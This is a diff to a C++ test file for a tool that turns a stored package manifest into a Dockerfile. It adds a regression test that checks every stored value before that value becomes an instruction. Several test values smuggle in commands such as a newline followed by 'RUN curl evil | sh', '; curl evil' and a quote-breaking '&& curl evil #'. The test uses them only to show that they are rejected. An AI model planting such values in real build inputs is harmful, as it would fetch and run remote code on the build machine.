@@ -175,7 +175,7 @@ TEST(RecreateTest, PythonPackagesGoToPipUnlessDebianHoldsThem) {
                 {"packages.debian.libfoo:i386", "1.0-1"},
                 {"packages.architecture", "amd64"},
                 {"packages.unowned", "/opt/ts/build/lib/libtrainscope.so"},
-                {"build.trainscope.commit", "abc123"},
+                {"build.trainscope.commit", "abc1234"},
                 {"python.packages.numpy", "1.24.2"},
                 {"python.package.scikit_learn", "1.3.0"},
                 {"system.os.id", "debian"},
@@ -186,12 +186,12 @@ TEST(RecreateTest, PythonPackagesGoToPipUnlessDebianHoldsThem) {
   EXPECT_EQ(r.pip, (std::map<std::string, std::string>{{"scikit_learn", "1.3.0"}}));
   ASSERT_EQ(r.packages.size(), 3u);
   EXPECT_EQ(r.packages[1].pin, "libfoo:i386=1.0-1");  // a foreign architecture is named
-  EXPECT_EQ(r.trainscope_commit, "abc123");
+  EXPECT_EQ(r.trainscope_commit, "abc1234");
   const std::string d = dockerfile(r, "run x");
   EXPECT_NE(d.find("FROM --platform=linux/amd64 debian:bookworm\n"), std::string::npos) << d;
   EXPECT_NE(d.find("      python3-numpy=1:1.24.2-1 \\\n"), std::string::npos) << d;
   EXPECT_NE(d.find("'scikit_learn==1.3.0'"), std::string::npos) << d;
-  EXPECT_NE(d.find("git checkout abc123"), std::string::npos) << d;
+  EXPECT_NE(d.find("git checkout abc1234"), std::string::npos) << d;
   // No install times recorded: the snapshot is the run's start.
   EXPECT_NE(d.find("for t in 20260101T000000Z; do"), std::string::npos) << d;
   m.erase("packages.debian.python3-numpy:amd64");
@@ -219,7 +219,7 @@ TEST(RecreateTest, ATorchWheelIsPinnedFromItsIndexAndCheckedBeforeItIsWritten) {
   Manifest m = {{"packages.debian.libc6:amd64", "2.36-9+deb12u10"},
                 {"packages.architecture", "amd64"},
                 {"packages.unowned", "/opt/ts/build/lib/libtrainscope.so"},
-                {"build.trainscope.commit", "abc123"},
+                {"build.trainscope.commit", "abc1234"},
                 {"libraries.torch.distribution", "torch==2.15.0+cu128"},
                 {"libraries.torch.installer", "pip"},
                 {"libraries.torch.index", "https://download.pytorch.org/whl/cu128"},
@@ -241,7 +241,7 @@ TEST(RecreateTest, ATorchWheelIsPinnedFromItsIndexAndCheckedBeforeItIsWritten) {
       std::string::npos)
       << d;
   EXPECT_NE(d.find("-DTRAINSCOPE_TORCH_PYTHON=/opt/venv/bin/python"), std::string::npos) << d;
-  EXPECT_LT(d.find("--index-url"), d.find("git checkout abc123")) << d;
+  EXPECT_LT(d.find("--index-url"), d.find("git checkout abc1234")) << d;
   // What would become a Dockerfile instruction, from a store's bytes.
   for (const auto& [key, bad] : std::vector<std::pair<std::string, std::string>>{
            {"libraries.torch.distribution", "torch==2.15.0\nRUN curl evil | sh"},
@@ -265,6 +265,76 @@ TEST(RecreateTest, ATorchWheelIsPinnedFromItsIndexAndCheckedBeforeItIsWritten) {
   EXPECT_NE(
       dockerfile(r, "run x").find("# Not installed here: torch came from conda (pytorch==2.15.0)."),
       std::string::npos);
+}
+
+// Issue 51: a store's bytes become Dockerfile instructions and shell words.
+// Every value that does is checked against what it names, and a recipe with
+// one that is not is refused naming the key; text for comments only is made
+// one printable line. A version followed by a newline and an instruction (a
+// shared PostgreSQL store is enough to plant it) was written out, exit 0.
+TEST(RecreateTest, EveryStoreValueIsCheckedBeforeItBecomesAnInstruction) {
+  const Manifest good = {{"packages.debian.libc6:amd64", "2.36-9+deb12u10"},
+                         {"packages.installed.libc6:amd64", "20250520T143000Z"},
+                         {"packages.architecture", "amd64"},
+                         {"packages.unowned", "/opt/ts/build/lib/libtrainscope.so"},
+                         {"build.trainscope.commit", "abc1234"},
+                         {"build.trainscope.version", "0.1.0"},
+                         {"python.packages.numpy", "2.4.6"},
+                         {"system.os.id", "debian"},
+                         {"system.os.codename", "bookworm"}};
+  ASSERT_NO_THROW(recipe(good));
+  const std::string evil = "\nRUN curl evil | sh";
+  const std::vector<std::pair<std::string, std::string>> cases = {
+      {"packages.debian.libc6:amd64", "2.36-9" + evil},
+      {"packages.debian.libc6:amd64", "2.36 9"},
+      {"packages.installed.libc6:amd64", "20250520T143000Z; curl evil"},
+      {"packages.architecture", "amd64" + evil},
+      {"build.trainscope.commit", "abc1234; curl evil"},
+      {"build.trainscope.version", "0.1" + evil},
+      {"python.packages.numpy", "2.4.6' 'evil"},
+      {"system.os.id", "debian" + evil},
+      {"system.os.codename", "bookworm evil"},
+      {"libraries.torch.distribution", "torch==2.15.0" + evil},
+      {"libraries.torch.url", "https://x.org/t.whl' && curl evil #"},
+      {"packages.debian.libc6:amd64", std::string(100000, '1')},  // no regex recursion crash
+  };
+  for (const auto& [key, bad] : cases) {
+    Manifest m = good;
+    m[key] = bad;
+    if (key.rfind("libraries.torch.", 0) == 0) {
+      m["libraries.torch.installer"] = "pip";
+      if (key == "libraries.torch.url") m["libraries.torch.distribution"] = "torch==2.15.0";
+    }
+    try {
+      recipe(m);
+      ADD_FAILURE() << key << " = " << bad.substr(0, 60) << " was accepted";
+    } catch (const core::Error& e) {
+      EXPECT_EQ(e.kind(), core::ErrorKind::kUsage) << e.what();
+      EXPECT_NE(std::string(e.what()).find(key), std::string::npos) << e.what();
+      EXPECT_EQ(std::string(e.what()).find('\n'), std::string::npos) << e.what();
+    }
+  }
+  // A key whose name holds the instruction (packages.debian.<name>:<arch>).
+  Manifest named = good;
+  named["packages.debian.libc6\nRUN curl evil:amd64"] = "1.0";
+  EXPECT_THROW(recipe(named), core::Error);
+  // Comment text and the run's name: one printable line each, nothing more.
+  Manifest text = good;
+  text["system.os"] = "Debian" + evil;
+  text["packages.unowned"] = "/opt/lib\x1b[2J.so";
+  const std::string d = dockerfile(recipe(text), "run x (a name" + evil + ")");
+  EXPECT_EQ(d.find("\nRUN curl"), std::string::npos) << d;
+  EXPECT_EQ(d.find('\x1b'), std::string::npos) << d;
+  // A wheel installed from an https URL is installed from it.
+  Manifest url = good;
+  url["libraries.torch.installer"] = "pip";
+  url["libraries.torch.distribution"] = "torch==2.15.0";
+  url["libraries.torch.url"] = "https://example.org/torch-2.15.0-cp311-linux_x86_64.whl";
+  const std::string u = dockerfile(recipe(url), "run x");
+  EXPECT_NE(u.find(" && /opt/venv/bin/python -m pip install --no-cache-dir "
+                   "'https://example.org/torch-2.15.0-cp311-linux_x86_64.whl'\n"),
+            std::string::npos)
+      << u;
 }
 
 TEST(RecreateTest, PoolPathsComeFromTheOtherVersionsFolders) {
